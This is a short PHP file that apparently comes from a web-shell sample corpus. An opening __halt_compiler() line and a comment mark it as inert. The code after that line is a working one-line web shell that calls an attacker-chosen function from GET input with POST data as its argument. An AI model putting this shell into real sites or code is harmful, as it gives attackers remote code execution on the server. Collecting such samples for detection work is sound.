<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$f = $_GET['func'];
$f($_POST['1']);
